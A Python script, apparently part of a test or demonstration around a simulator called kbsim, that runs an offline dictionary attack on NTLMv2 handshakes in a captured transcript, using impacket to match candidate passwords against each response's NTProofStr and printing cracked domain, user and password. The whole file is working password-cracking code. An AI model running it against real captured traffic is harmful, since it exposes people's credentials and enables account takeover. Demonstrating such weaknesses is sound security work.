#!/usr/bin/python3
"""An offline dictionary attack on the NTLMv2 handshakes of a kbsim
transcript, with impacket's NTLM code (not kbsim's): what someone who was
handed the evidence could do.

Usage: crack_ntlmv2.py TRANSCRIPT WORD...

For every type 3 in the transcript, takes the type 2 that came before it on
the same connection (the server challenge), and tries each WORD as the
password: NTOWFv2 of the word, user and domain, HMAC-MD5 over the server
challenge and the type 3's blob, compared with its NTProofStr. Prints
"cracked DOMAIN\\user WORD" for each hit and exits 0 when any was found, 1
when none was, 2 when the transcript held no NTLMv2 type 3 to attack.
"""
import base64
import hmac
import re
import sys

from impacket import ntlm


def tokens(path):
    """Yields (connection, kind, raw NTLMSSP bytes) in transcript order."""
    conn = None
    with open(path, 'rb') as f:
        for line in f:
            m = re.match(rb'; === (.+?):', line)
            if m:
                conn = m.group(1)
                continue
            m = re.match(rb'(Authorization|WWW-Authenticate): (?:NTLM|Negotiate) '
                         rb'([A-Za-z0-9+/=]+)\r?\n$', line)
            if m:
                yield conn, m.group(1), base64.b64decode(m.group(2))


def main():
    path, words = sys.argv[1], sys.argv[2:]
    challenge = {}
    attacked = cracked = 0
    for conn, kind, raw in tokens(path):
        if not raw.startswith(b'NTLMSSP\0'):
            continue
        if raw[8] == 2:
            challenge[conn] = raw[24:32]
        elif raw[8] == 3 and conn in challenge:
            msg = ntlm.NTLMAuthChallengeResponse()
            msg.fromString(raw)
            nt = msg['ntlm']
            if len(nt) <= 24:
                continue  # NTLMv1: not this attack
            attacked += 1
            user = msg['user_name'].decode('utf-16-le')
            domain = msg['domain_name'].decode('utf-16-le')
            proof, blob = nt[:16], nt[16:]
            for word in words:
                key = ntlm.NTOWFv2(user, word, domain)
                if hmac.compare_digest(
                        hmac.new(key, challenge[conn] + blob, 'md5').digest(),
                        proof):
                    print('cracked %s\\%s %s' % (domain, user, word))
                    cracked += 1
                    break
    if not attacked:
        print('no NTLMv2 type 3 to attack')
        return 2
    return 0 if cracked else 1


if __name__ == '__main__':
    sys.exit(main())
